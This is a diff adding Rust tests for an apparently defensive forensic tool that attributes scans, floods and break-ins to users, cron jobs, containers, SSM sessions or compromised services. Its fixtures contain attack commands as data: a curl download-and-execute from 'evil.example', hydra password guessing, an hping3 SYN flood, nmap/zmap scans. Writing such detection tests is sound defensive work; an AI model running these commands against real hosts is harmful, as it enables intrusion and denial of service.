@@ -1,0 +1,332 @@
+//! Where things come from: sudo and su, cron, containers, SSM, services, and what somebody else did.
+
+use gumshoe::case::Activity as Accusation;
+use gumshoe::case::Confidence;
+use gumshoe::case::DoubtKind;
+use gumshoe::case::Entry;
+use gumshoe::report;
+use history::Direction;
+use history::FlowState;
+use history::Protocol;
+use history::Via;
+
+use super::check::doubts;
+use super::check::everything_holds;
+use super::story::*;
+
+const NMAP: &str = "nmap -sS 198.51.100.7";
+
+#[test]
+fn su_keeps_the_person_too() {
+    let mut story = Story::new();
+    let shell = story.ssh(ALICE, LAPTOP, 60);
+    let su = story.run(shell, 70, ROOT, "/usr/bin/su", "su -");
+    let root_shell = story.run(su, 72, ROOT, "/usr/bin/bash", "-bash");
+    let nmap = story.run(root_shell, 120, ROOT, "/usr/bin/nmap", NMAP);
+    story.raw_scan(nmap, 121, 134, Via::Packet);
+    let report = report_of(&story, accused(120, 180));
+    assert_eq!(report.facts.person.as_ref().unwrap().raw(), "alice");
+    assert_eq!(report.facts.elevated_by.as_ref().unwrap().raw(), "su");
+    assert_eq!(report.facts.confidence, Confidence::High);
+    everything_holds(&report);
+}
+
+#[test]
+fn without_a_login_uid_the_login_tells_the_person() {
+    let mut story = Story::new();
+    let shell = story.ssh(ALICE, LAPTOP, 60);
+    let nmap = story.sudo(shell, 120, "/usr/bin/nmap", NMAP);
+    story.raw_scan(nmap, 121, 134, Via::Packet);
+    for process in &mut story.processes {
+        process.credentials.login_uid = None;
+        process.credentials.session = None;
+        process.login_user = None;
+    }
+    let report = report_of(&story, accused(120, 180));
+    assert_eq!(report.facts.person.as_ref().unwrap().raw(), "alice");
+    assert_eq!(report.judgement.suspects[0].person.as_ref().unwrap().known_by, "login");
+    assert_eq!(report.facts.confidence, Confidence::High);
+}
+
+#[test]
+fn a_sudo_that_becomes_its_program_is_still_seen() {
+    let mut story = Story::new();
+    let shell = story.ssh(ALICE, LAPTOP, 60);
+    let nmap = story.sudo(shell, 120, "/usr/bin/nmap", NMAP);
+    let sudo = story.of(nmap).parent.unwrap();
+    // Without a pty sudo executes the program in its own process.
+    let mut image = sudo;
+    image.exec = 2;
+    let process = story.of(nmap);
+    process.id = image;
+    process.parent = Some(shell);
+    story.raw_scan(image, 121, 134, Via::Packet);
+    let report = report_of(&story, accused(120, 180));
+    assert_eq!(report.facts.elevated_by.as_ref().unwrap().raw(), "sudo");
+    assert_eq!(report.facts.argv.as_ref().unwrap().raw(), NMAP);
+    assert_eq!(report.facts.confidence, Confidence::High);
+}
+
+#[test]
+fn a_missing_link_is_named_and_the_session_number_bridges_it() {
+    let mut story = Story::new();
+    let shell = story.ssh(ALICE, LAPTOP, 60);
+    let other = story.run(shell, 65, ALICE, "/usr/bin/vim", "vim notes");
+    let script = story.run(shell, 100, ALICE, "/home/alice/job", "./job");
+    let nmap = story.sudo(script, 120, "/usr/bin/nmap", NMAP);
+    story.raw_scan(nmap, 121, 134, Via::Packet);
+    assert!(story.processes.iter().any(|process| process.id == other));
+    story.processes.retain(|process| process.id != script);
+    let report = report_of(&story, accused(120, 180));
+    assert_eq!(report.facts.person.as_ref().unwrap().raw(), "alice");
+    assert!(report.facts.login.is_some(), "joined by the session's number");
+    assert!(!report.facts.chain_complete);
+    assert_eq!(doubts(&report), [DoubtKind::ChainBroken]);
+    assert_eq!(report.facts.confidence, Confidence::Medium);
+    everything_holds(&report);
+}
+
+#[test]
+fn with_nothing_known_above_it_nobody_is_named() {
+    let mut story = Story::new();
+    let init = story.init();
+    let lost = story.run(init, 10, ROOT, "/usr/bin/bash", "bash");
+    let nmap = story.run(lost, 120, ROOT, "/usr/bin/nmap", NMAP);
+    story.raw_scan(nmap, 121, 134, Via::Packet);
+    story.processes.retain(|process| process.id != lost);
+    let report = report_of(&story, accused(120, 180));
+    assert_eq!(report.facts.person, None);
+    assert_eq!(report.facts.entry, "unknown");
+    assert_eq!(doubts(&report), [DoubtKind::ChainBroken, DoubtKind::EntryUnknown]);
+    assert_eq!(report.facts.confidence, Confidence::Medium);
+    assert!(!report::text(&report).contains("person is"), "nobody is named");
+    everything_holds(&report);
+}
+
+#[test]
+fn an_unknown_owner_is_not_guessed() {
+    let mut story = Story::new();
+    noise(&mut story);
+    let ghost = story.init();
+    story.raw_scan(ghost, 121, 134, Via::Packet);
+    story.activities.last_mut().unwrap().process = None;
+    let report = report_of(&story, accused(120, 180));
+    assert_eq!(report.facts.argv, None);
+    assert_eq!(report.facts.person, None);
+    assert_eq!(report.facts.confidence, Confidence::Low);
+    assert_eq!(doubts(&report), [DoubtKind::OwnerUnknown]);
+    everything_holds(&report);
+}
+
+#[test]
+fn cron_is_an_entry() {
+    let mut story = Story::new();
+    let cron = story.service("cron.service", ROOT, "/usr/sbin/cron", "/usr/sbin/cron -f");
+    let child = story.run(cron, 119, ROOT, "/usr/sbin/cron", "/usr/sbin/CRON -f");
+    let shell = story.run(child, 119, ALICE, "/usr/bin/dash", "/bin/sh -c /home/alice/check.sh");
+    let nmap = story.run(shell, 120, ALICE, "/usr/bin/nmap", "nmap -sT 198.51.100.7");
+    story.raw_scan(nmap, 121, 134, Via::Socket);
+    story.activities.last_mut().unwrap().states = vec![(FlowState::Refused, 1000)];
+    let report = report_of(&story, accused(120, 180));
+    assert_eq!(report.facts.entry, "cron");
+    assert_eq!(report.facts.person.as_ref().unwrap().raw(), "alice");
+    assert!(report.sentence.contains("cron started it: /home/alice/check.sh"), "{}", report.sentence);
+    assert_eq!(report.facts.confidence, Confidence::High);
+    everything_holds(&report);
+}
+
+#[test]
+fn a_container_is_an_entry() {
+    let id = "4f5e9d1c0b2a4f5e9d1c0b2a4f5e9d1c0b2a4f5e9d1c0b2a4f5e9d1c0b2a4f5e";
+    let mut story = Story::new();
+    let shim =
+        story.service("containerd.service", ROOT, "/usr/bin/containerd-shim-runc-v2", "containerd-shim");
+    let main = story.run(shim, 0, ROOT, "/bin/sh", "sh /run.sh");
+    story.of(main).cgroup = format!("/system.slice/docker-{id}.scope");
+    let scanner = story.run(main, 120, ROOT, "/usr/bin/zmap", "zmap -p 22 198.51.100.0/24");
+    story.raw_scan(scanner, 121, 134, Via::Packet);
+    let activity = story.activities.last_mut().unwrap();
+    (activity.addresses, activity.ports, activity.targets) = (256, 1, 256);
+    (activity.matched, activity.matched_ports) = (1, 1);
+    activity.port_ranges = vec![(22, 22)];
+    let report = report_of(&story, accused(120, 180));
+    assert_eq!(report.facts.tool.as_deref(), Some("zmap"));
+    let Entry::Container { runtime, id: short } = &report.judgement.suspects[0].entry else {
+        panic!("{:?}", report.judgement.suspects[0].entry)
+    };
+    assert_eq!((runtime.as_str(), short.raw()), ("docker", &id[..12]));
+    assert_eq!(report.facts.person, None);
+    assert_eq!(report.facts.confidence, Confidence::High);
+    everything_holds(&report);
+}
+
+#[test]
+fn an_ssm_session_is_an_entry() {
+    let mut story = Story::new();
+    let agent =
+        story.service("amazon-ssm-agent.service", ROOT, "/usr/bin/ssm-agent-worker", "ssm-agent-worker");
+    let worker = story.run(
+        agent,
+        60,
+        ROOT,
+        "/usr/bin/ssm-session-worker",
+        "ssm-session-worker alice-0a1b2c3d4e5f60718",
+    );
+    let shell = story.run(worker, 61, User(1001, "ssm-user"), "/usr/bin/bash", "sh");
+    let nmap = story.sudo(shell, 120, "/usr/bin/nmap", NMAP);
+    story.raw_scan(nmap, 121, 134, Via::Packet);
+    let report = report_of(&story, accused(120, 180));
+    assert_eq!(report.facts.entry, "ssm_session");
+    assert_eq!(report.facts.person.as_ref().unwrap().raw(), "ssm-user");
+    assert!(report.sentence.contains("alice-0a1b2c3d4e5f60718"), "{}", report.sentence);
+    assert_eq!(report.facts.confidence, Confidence::High);
+    everything_holds(&report);
+}
+
+#[test]
+fn an_exploited_web_application_is_a_compromise() {
+    let mut story = Story::new();
+    let nginx = story.service("app.service", WWW, "/usr/bin/python3.11", "python3 /srv/app/server.py");
+    story.traffic(Some(nginx), -100, 1000, |activity| {
+        activity.direction = Direction::In;
+        activity.flows = 40;
+        activity.address_sample = vec!["203.0.113.66".parse().unwrap()];
+        activity.states = vec![(FlowState::Closed, 40)];
+    });
+    let shell =
+        story.run(nginx, 100, WWW, "/usr/bin/dash", "sh -c curl http://evil.example/s -o /tmp/.s; /tmp/.s");
+    let curl = story.run(shell, 101, WWW, "/usr/bin/curl", "curl http://evil.example/s -o /tmp/.s");
+    story.traffic(Some(curl), 101, 102, |activity| {
+        activity.address_sample = vec!["203.0.113.66".parse().unwrap()];
+        activity.port_ranges = vec![(80, 80)];
+    });
+    let scanner = story.run(shell, 110, WWW, "memfd:s", "[kworker/0:1]");
+    story.of(scanner).flags.exe_memfd = true;
+    story.traffic(Some(scanner), 111, 300, |activity| {
+        (activity.flows, activity.matched) = (4000, 20);
+        (activity.addresses, activity.ports, activity.targets, activity.matched_ports) = (4000, 1, 4000, 1);
+        activity.states = vec![(FlowState::TimedOut, 3900), (FlowState::Closed, 100)];
+        activity.address_sample = vec![VICTIM.parse().unwrap()];
+        activity.port_ranges = vec![(22, 22)];
+    });
+    let report = report_of(&story, accused(120, 180));
+    assert_eq!(report.facts.verdict, "compromise");
+    assert_eq!(report.facts.person, None, "no person stands behind a service");
+    assert_eq!(report.facts.entry, "unit");
+    let signs = &report.judgement.suspects[0].signs;
+    assert!(signs.iter().any(|sign| sign.contains("memfd")), "{signs:?}");
+    assert!(signs.iter().any(|sign| sign.contains("python3.11, which serves the network")), "{signs:?}");
+    assert_eq!(report.routing, "security");
+    assert_eq!(report.facts.confidence, Confidence::High);
+    let text = report::text(&report);
+    assert!(text.contains("hxxp://evil[.]example"), "{text}");
+    everything_holds(&report);
+    insta::assert_snapshot!("compromise_text", text);
+}
+
+#[test]
+fn a_stolen_password_shows_beside_the_owners_session() {
+    let mut story = Story::new();
+    story.ssh(ALICE, LAPTOP, -500);
+    for second in 0..12 {
+        story.login("alice", "203.0.113.200", 20 + second, "password", None, false, None);
+    }
+    let shell = story.ssh_by(ALICE, "203.0.113.200", 60, "password", None);
+    let nmap = story.sudo(shell, 120, "/tmp/n", "n -sS 198.51.100.7");
+    story.raw_scan(nmap, 121, 134, Via::Packet);
+    let report = report_of(&story, accused(120, 180));
+    assert_eq!(report.facts.login.as_ref().unwrap().source_address, Some("203.0.113.200".parse().unwrap()));
+    assert_eq!(report.facts.verdict, "compromise");
+    let text = report::text(&report);
+    assert!(text.contains("12 failed logins"), "{text}");
+    assert!(text.contains("alice also logged in from 192.0.2.10"), "{text}");
+    everything_holds(&report);
+}
+
+#[test]
+fn forwarded_packets_are_not_the_hosts_own() {
+    let mut story = Story::new();
+    story.traffic(None, 121, 134, |activity| {
+        activity.via = Via::Forwarded;
+        (activity.flows, activity.matched, activity.packets) = (1000, 1000, 1000);
+        (activity.ports, activity.targets, activity.matched_ports) = (1000, 1000, 1000);
+        activity.address_sample = vec![VICTIM.parse().unwrap()];
+        activity.port_ranges = vec![(1, 1000)];
+        activity.local_addresses = vec!["172.17.0.2".parse().unwrap()];
+    });
+    let report = report_of(&story, accused(120, 180));
+    assert_eq!(report.facts.verdict, "forwarded");
+    assert!(report::text(&report).contains("172.17.0.2"), "{}", report::text(&report));
+    everything_holds(&report);
+}
+
+#[test]
+fn a_memcached_that_answers_anybody_is_an_exposed_service() {
+    let mut story = Story::new();
+    let memcached =
+        story.service("memcached.service", User(120, "memcache"), "/usr/bin/memcached", "memcached -U 11211");
+    story.traffic(Some(memcached), 121, 700, |activity| {
+        activity.protocol = Protocol::UDP;
+        activity.direction = Direction::In;
+        (activity.flows, activity.matched) = (500, 500);
+        activity.matched_ports = 1;
+        activity.bytes = 700_000_000;
+        activity.bytes_received = 15_000;
+        activity.address_sample = vec![VICTIM.parse().unwrap()];
+        activity.port_ranges = vec![(80, 80)];
+    });
+    let mut claim = accused(120, 180);
+    claim.activity = Accusation::Reflection;
+    claim.remote[0].protocol = None;
+    let report = report_of(&story, claim);
+    assert_eq!(report.facts.verdict, "exposed_service");
+    assert_eq!(report.facts.program.as_ref().unwrap().raw(), "/usr/bin/memcached");
+    assert_eq!(report.facts.confidence, Confidence::High);
+    everything_holds(&report);
+}
+
+#[test]
+fn hydra_guesses_passwords() {
+    let mut story = Story::new();
+    let shell = story.ssh(ALICE, LAPTOP, 60);
+    let hydra =
+        story.run(shell, 120, ALICE, "/usr/bin/hydra", "hydra -l root -P words.txt ssh://198.51.100.7");
+    for _ in 0..16 {
+        let worker =
+            story.run(hydra, 121, ALICE, "/usr/bin/hydra", "hydra -l root -P words.txt ssh://198.51.100.7");
+        story.traffic(Some(worker), 121, 300, |activity| {
+            (activity.flows, activity.matched, activity.matched_ports) = (40, 40, 1);
+            activity.states = vec![(FlowState::Closed, 40)];
+            activity.bytes = 80_000;
+            activity.address_sample = vec![VICTIM.parse().unwrap()];
+            activity.port_ranges = vec![(22, 22)];
+        });
+    }
+    let mut claim = accused(120, 180);
+    claim.activity = Accusation::LoginAttack;
+    let report = report_of(&story, claim);
+    assert_eq!(report.facts.tool.as_deref(), Some("hydra"));
+    assert_eq!(report.judgement.suspects.len(), 1, "workers are one suspect");
+    assert_eq!(report.facts.targets.as_ref().unwrap().flows, 640);
+    assert_eq!(report.facts.confidence, Confidence::High);
+    everything_holds(&report);
+}
+
+#[test]
+fn a_syn_flood_is_a_flood_and_no_scan() {
+    let mut story = Story::new();
+    let shell = story.ssh(ALICE, LAPTOP, 60);
+    let hping = story.sudo(shell, 120, "/usr/sbin/hping3", "hping3 -S --flood -p 80 198.51.100.7");
+    story.raw_scan(hping, 121, 180, Via::RawIp);
+    let activity = story.activities.last_mut().unwrap();
+    (activity.flows, activity.matched, activity.packets) = (60_000, 60_000, 5_000_000);
+    (activity.ports, activity.targets, activity.matched_ports) = (1, 1, 1);
+    activity.port_ranges = vec![(80, 80)];
+    let mut claim = accused(120, 180);
+    claim.activity = Accusation::DenialOfService;
+    let report = report_of(&story, claim);
+    assert_eq!(report.facts.tool.as_deref(), Some("hping3"));
+    assert_eq!(report.judgement.suspects[0].rule.as_deref(), Some("flood"));
+    assert_eq!(report.facts.confidence, Confidence::High);
+    everything_holds(&report);
+}
